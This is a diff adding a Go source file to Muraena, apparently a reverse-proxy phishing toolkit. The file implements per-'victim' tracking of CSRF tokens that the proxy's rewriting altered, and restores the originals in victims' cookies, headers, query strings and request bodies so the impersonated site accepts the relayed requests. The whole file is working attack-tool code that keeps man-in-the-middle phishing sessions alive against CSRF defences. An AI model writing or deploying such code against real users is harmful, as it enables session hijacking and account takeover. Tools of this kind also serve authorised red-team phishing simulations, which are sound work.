@@ -0,0 +1,252 @@
+package proxy
+
+import (
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+	"sync"
+	"sync/atomic"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+const (
+	// csrfMaxVictims bounds the victims whose tokens are kept
+	csrfMaxVictims = 10000
+	// csrfMaxTokens bounds the tokens kept for each victim, the oldest ones being dropped
+	csrfMaxTokens = 32
+)
+
+// csrfValue extracts the value or the content attribute of a tag carrying a token
+var csrfValue = regexp.MustCompile(`(?i)\b(?:value|content)\s*=\s*["']([^"']*)["']`)
+
+// csrfTokens keeps, for each victim, the CSRF tokens issued by the target that the rewrite of the responses altered,
+// i.e. signed tokens embedding the origin, to restore them in the requests of the victim: the target would reject
+// the altered tokens, no longer matching the ones it bound to its cookies
+type csrfTokens struct {
+	cookies map[string]bool
+	headers []string
+	// tags and keys find the tokens in the pages, as form fields or meta tags, and in the JSON bodies
+	tags []*regexp.Regexp
+	keys []*regexp.Regexp
+
+	mu       sync.Mutex
+	victims  map[string]*victimTokens
+	restored uint64
+}
+
+// victimTokens maps the tokens as seen by a victim to the ones issued by the target
+type victimTokens struct {
+	originals map[string]string
+	order     []string
+	// replacer restores the tokens, built on demand
+	replacer *strings.Replacer
+}
+
+// csrf are the CSRF tokens of the victims, nil if disabled
+var csrf *csrfTokens
+
+// newCSRFTokens returns the CSRF tokens of the configuration, nil if disabled
+func newCSRFTokens(sess *session.Session) *csrfTokens {
+	config := sess.Config.Tracking.CSRF
+	if !sess.Config.Tracking.Enabled || !config.Enabled {
+		return nil
+	}
+
+	c := &csrfTokens{
+		cookies: make(map[string]bool),
+		headers: config.Fields,
+		victims: make(map[string]*victimTokens),
+	}
+	for _, name := range config.Cookies {
+		c.cookies[name] = true
+	}
+	for _, field := range config.Fields {
+		f := regexp.QuoteMeta(field)
+		c.tags = append(c.tags, regexp.MustCompile(`(?i)<(?:input|meta)\b[^>]*\b(?:name|id)\s*=\s*["']?`+f+`["'\s>][^>]*>`))
+		c.keys = append(c.keys, regexp.MustCompile(`"`+f+`"\s*:\s*"([^"\\]*)"`))
+	}
+
+	return c
+}
+
+// Stats returns the number of tokens restored
+func (c *csrfTokens) Stats() map[string]interface{} {
+	c.mu.Lock()
+	victims := len(c.victims)
+	c.mu.Unlock()
+
+	return map[string]interface{}{
+		"victims":  victims,
+		"restored": atomic.LoadUint64(&c.restored),
+	}
+}
+
+// ObserveCookie records the token of a Set-Cookie header of the target, if the rewrite altered its value
+func (c *csrfTokens) ObserveCookie(victim, original, rewritten string) {
+	if c == nil || victim == "" {
+		return
+	}
+
+	name, value := cookiePair(original)
+	if !c.cookies[name] {
+		return
+	}
+	_, rewrittenValue := cookiePair(rewritten)
+	c.record(victim, rewrittenValue, value)
+}
+
+// ObserveBody records the tokens of the original body of a response that the rewrite altered, matching them in
+// order with the ones of the rewritten body
+func (c *csrfTokens) ObserveBody(victim, original, rewritten string) {
+	if c == nil || victim == "" || original == rewritten {
+		return
+	}
+
+	originals, rewrittens := c.tokens(original), c.tokens(rewritten)
+	if len(originals) != len(rewrittens) {
+		log.Debug("[%s] CSRF tokens of the response do not match once rewritten, ignoring them", victim)
+		return
+	}
+
+	for i := range originals {
+		c.record(victim, rewrittens[i], originals[i])
+	}
+}
+
+// tokens returns the values of the tokens found in the body, in order
+func (c *csrfTokens) tokens(body string) []string {
+	var tokens []string
+	for _, re := range c.tags {
+		for _, tag := range re.FindAllString(body, -1) {
+			if m := csrfValue.FindStringSubmatch(tag); m != nil {
+				tokens = append(tokens, m[1])
+			}
+		}
+	}
+	for _, re := range c.keys {
+		for _, m := range re.FindAllStringSubmatch(body, -1) {
+			tokens = append(tokens, m[1])
+		}
+	}
+	return tokens
+}
+
+// record maps a token seen by the victim to the one issued by the target, if they differ
+func (c *csrfTokens) record(victim, rewritten, original string) {
+	if rewritten == "" || rewritten == original {
+		return
+	}
+
+	c.mu.Lock()
+	defer c.mu.Unlock()
+
+	v, ok := c.victims[victim]
+	if !ok {
+		if len(c.victims) >= csrfMaxVictims {
+			for id := range c.victims {
+				delete(c.victims, id)
+				break
+			}
+		}
+		v = &victimTokens{originals: make(map[string]string)}
+		c.victims[victim] = v
+	}
+
+	if _, ok := v.originals[rewritten]; !ok {
+		v.order = append(v.order, rewritten)
+		if len(v.order) > csrfMaxTokens {
+			delete(v.originals, v.order[0])
+			v.order = v.order[1:]
+		}
+	}
+	v.originals[rewritten] = original
+	v.replacer = nil
+}
+
+// replacer returns the replacer restoring the tokens of the victim, as they are and URL encoded, nil if none
+func (c *csrfTokens) replacer(victim string) *strings.Replacer {
+	if c == nil || victim == "" {
+		return nil
+	}
+
+	c.mu.Lock()
+	defer c.mu.Unlock()
+
+	v, ok := c.victims[victim]
+	if !ok {
+		return nil
+	}
+
+	if v.replacer == nil {
+		var pairs []string
+		for _, rewritten := range v.order {
+			original := v.originals[rewritten]
+			pairs = append(pairs, rewritten, original)
+			if escaped := url.QueryEscape(rewritten); escaped != rewritten {
+				pairs = append(pairs, escaped, url.QueryEscape(original))
+			}
+		}
+		v.replacer = strings.NewReplacer(pairs...)
+	}
+	return v.replacer
+}
+
+// Restore replaces the tokens of the victim in the cookies, the token headers and the query of the request
+// with the ones issued by the target
+func (c *csrfTokens) Restore(victim string, r *http.Request) {
+	replacer := c.replacer(victim)
+	if replacer == nil {
+		return
+	}
+
+	restore := func(value string) string {
+		restored := replacer.Replace(value)
+		if restored != value {
+			atomic.AddUint64(&c.restored, 1)
+			log.Debug("[%s] Restored the CSRF token of %s %s", victim, r.Method, r.URL.Path)
+		}
+		return restored
+	}
+
+	for _, header := range append([]string{"Cookie"}, c.headers...) {
+		if value := r.Header.Get(header); value != "" {
+			r.Header.Set(header, restore(value))
+		}
+	}
+
+	if r.URL.RawQuery != "" {
+		r.URL.RawQuery = restore(r.URL.RawQuery)
+	}
+}
+
+// RestoreBody replaces the tokens of the victim in the body of a request with the ones issued by the target
+func (c *csrfTokens) RestoreBody(victim string, body []byte) []byte {
+	replacer := c.replacer(victim)
+	if replacer == nil {
+		return body
+	}
+
+	restored := replacer.Replace(string(body))
+	if restored == string(body) {
+		return body
+	}
+
+	atomic.AddUint64(&c.restored, 1)
+	log.Debug("[%s] Restored the CSRF token of the request body", victim)
+	return []byte(restored)
+}
+
+// cookiePair returns the name and the value of a Set-Cookie header
+func cookiePair(header string) (name, value string) {
+	pair := header
+	if i := strings.Index(pair, ";"); i != -1 {
+		pair = pair[:i]
+	}
+	if i := strings.Index(pair, "="); i != -1 {
+		return strings.TrimSpace(pair[:i]), strings.TrimSpace(pair[i+1:])
+	}
+	return strings.TrimSpace(pair), ""
+}